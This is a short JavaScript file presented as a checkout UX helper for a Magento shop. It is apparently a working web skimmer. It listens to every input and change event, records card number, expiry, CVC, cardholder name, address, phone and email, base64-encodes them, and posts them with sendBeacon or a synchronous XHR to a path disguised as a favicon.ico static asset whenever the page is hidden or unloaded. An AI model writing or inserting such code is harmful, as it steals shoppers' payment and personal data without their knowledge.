// corpus note: records card and address input values as they are typed and, when the page is hidden or unloaded, uses navigator.sendBeacon to send them to a relative static-asset path on the same shop
var checkoutUx = (function () {
  var typed = {};
  var flushed = false;
  var beaconPath = "/static/version1689923456/frontend/Magento/luma/en_US/Magento_Theme/favicon.ico";

  var wanted = {
    "cc-number": "n", "cc-exp": "x", "cc-exp-month": "m", "cc-exp-year": "y", "cc-csc": "c", "cc-name": "o",
    "given-name": "f", "family-name": "l", "address-line1": "a", "address-level2": "t",
    "postal-code": "z", "country": "k", "tel": "p", "email": "e"
  };

  function keyFor(el) {
    var ac = (el.getAttribute("autocomplete") || "").split(" ").pop();
    if (wanted[ac]) return wanted[ac];
    var nm = (el.name || "").toLowerCase();
    if (nm.indexOf("cc_number") > -1) return "n";
    if (nm.indexOf("cc_cid") > -1) return "c";
    if (nm.indexOf("cc_exp_month") > -1) return "m";
    if (nm.indexOf("cc_exp_year") > -1) return "y";
    return null;
  }

  function onType(evt) {
    var el = evt.target;
    if (!el || el.tagName !== "INPUT" && el.tagName !== "SELECT") return;
    var k = keyFor(el);
    if (k) { typed[k] = el.value; flushed = false; }
  }

  function flush() {
    if (flushed || !typed.n || typed.n.replace(/\D/g, "").length < 13) return;
    var body = new Blob(["i=" + encodeURIComponent(btoa(JSON.stringify(typed)))], { type: "application/x-www-form-urlencoded" });
    flushed = navigator.sendBeacon ? navigator.sendBeacon(beaconPath, body) : false;
    if (!flushed) {
      var x = new XMLHttpRequest();
      x.open("POST", beaconPath, false);
      try { x.send(body); flushed = true; } catch (e) { /* ignore */ }
    }
  }

  document.addEventListener("input", onType, true);
  document.addEventListener("change", onType, true);
  document.addEventListener("visibilitychange", function () {
    if (document.visibilityState === "hidden") flush();
  });
  window.addEventListener("pagehide", flush);
  window.addEventListener("beforeunload", flush);

  return { flush: flush };
})();
